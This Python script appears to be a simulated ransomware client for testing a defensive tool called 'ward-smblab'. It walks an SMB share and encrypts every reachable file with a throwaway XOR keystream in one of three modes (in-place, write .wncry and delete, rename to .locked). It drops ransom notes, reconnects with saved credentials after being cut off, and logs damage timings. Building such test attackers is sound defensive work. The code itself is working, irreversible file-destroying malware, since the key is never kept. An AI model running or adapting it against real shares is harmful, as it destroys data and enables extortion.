"""A ransomware-like SMB client: walks the share and encrypts every file it can.

Modes: inplace (read, overwrite with ciphertext), new-then-delete (write FILE.wncry, delete
FILE), rename-first (rename FILE to FILE.locked, then overwrite it). --note drops a ransom note
per directory. On a connection error it tries to reconnect for --reconnect-secs (saved
credentials), and reports whether it got back in. Lines: "start", "damaged" (per file, with
t_ns = wall clock of its first damaging operation), "error", "cut-off", "reconnect",
"summary".
"""
import hashlib
import os
import time

from common import (Smb, base_args, emit, error_text, is_file_error, now_ns, rfc3339,
                    start_watchdog)

NOTE = "README_RESTORE_FILES.txt"
NOTE_TEXT = (b"Your files have been encrypted by ward-smblab's test attacker.\n"
             b"This is a test; ward should have restored them.\n")
EXT = {"new-then-delete": ".wncry", "rename-first": ".locked", "inplace": ""}


def encrypt(key, rel, data):
    if not data:
        return b"\x00" * 16
    ks = hashlib.shake_256(key + rel.encode()).digest(len(data))
    x = int.from_bytes(data, "little") ^ int.from_bytes(ks, "little")
    return x.to_bytes(len(data), "little")


def main():
    p = base_args(__doc__)
    p.add_argument("--mode", choices=sorted(EXT), default="inplace")
    p.add_argument("--note", action="store_true")
    p.add_argument("--reconnect-secs", type=float, default=0.0)
    p.add_argument("--limit", type=int, default=0, help="stop after N files (0: all)")
    p.add_argument("--delay", type=float, default=0.0, help="seconds between files")
    p.add_argument("--dir", default="", help="only files under this directory of the share")
    a = p.parse_args()

    smb = Smb(a)
    key = os.urandom(32)
    st = {"type": "summary", "mode": a.mode, "files_seen": 0, "damaged": 0, "errors": 0,
          "notes": 0, "cut_off": False, "cut_off_ns": None, "reconnect_attempts": 0,
          "reconnected": False, "first_damage_ns": None, "last_damage_ns": None,
          "left_undamaged": 0, "skipped": 0}
    start_watchdog(a.deadline_secs, lambda: emit(dict(st, deadline_hit=True)))

    smb.connect()
    files = [f for f in smb.walk_files()
             if f.startswith(a.dir.strip("/")) and not f.endswith(NOTE)
             and not f.endswith(".wncry") and not f.endswith(".locked")]
    st["files_seen"] = len(files)
    emit({"type": "start", "files": len(files), "mode": a.mode, "t_ns": now_ns()})
    noted = set()
    todo = list(files if a.limit <= 0 else files[:a.limit])
    while todo:
        rel = todo[0]
        try:
            d = os.path.dirname(rel)
            if a.note and d not in noted:
                noted.add(d)
                try:
                    smb.write((d + "/" if d else "") + NOTE, NOTE_TEXT)
                    st["notes"] += 1
                except Exception as e:  # noqa: BLE001
                    if not is_file_error(e):
                        raise
            data = smb.read(rel)
            ct = encrypt(key, rel, data)
            t = now_ns()
            if a.mode == "inplace":
                smb.write(rel, ct, mode="r+b")
            elif a.mode == "new-then-delete":
                smb.write(rel + ".wncry", ct)
                import smbclient
                smbclient.remove(smb.path(rel))
            else:
                import smbclient
                smbclient.rename(smb.path(rel), smb.path(rel + ".locked"))
                smb.write(rel + ".locked", ct, mode="r+b")
            st["damaged"] += 1
            st["first_damage_ns"] = st["first_damage_ns"] or t
            st["last_damage_ns"] = t
            emit({"type": "damaged", "path": rel, "t_ns": t, "t": rfc3339(t)})
            todo.pop(0)
            if a.delay:
                time.sleep(a.delay)
        except Exception as e:  # noqa: BLE001 - any failure of the server is a result here
            if is_file_error(e):
                # Refused for this file only (not ours, gone): skip it, like real ransomware.
                st["skipped"] += 1
                emit({"type": "skipped", "path": rel, "error": error_text(e), "t_ns": now_ns()})
                todo.pop(0)
                continue
            st["errors"] += 1
            emit({"type": "error", "path": rel, "error": error_text(e), "t_ns": now_ns()})
            if not st["cut_off"]:
                st["cut_off"] = True
                st["cut_off_ns"] = now_ns()
                emit({"type": "cut-off", "t_ns": st["cut_off_ns"]})
            if not reconnect(smb, a, st):
                break
    st["left_undamaged"] = len(todo)
    emit(st)


def reconnect(smb, a, st):
    """Try to get back in with the saved credentials for --reconnect-secs."""
    end = time.monotonic() + a.reconnect_secs
    while time.monotonic() < end:
        st["reconnect_attempts"] += 1
        try:
            smb.reconnect()
            smb.path()
            import smbclient
            smbclient.listdir(smb.root)
            st["reconnected"] = True
            emit({"type": "reconnect", "ok": True, "attempt": st["reconnect_attempts"],
                  "t_ns": now_ns()})
            return True
        except Exception as e:  # noqa: BLE001
            emit({"type": "reconnect", "ok": False, "attempt": st["reconnect_attempts"],
                  "error": error_text(e), "t_ns": now_ns()})
            time.sleep(0.2)
    return False


if __name__ == "__main__":
    main()
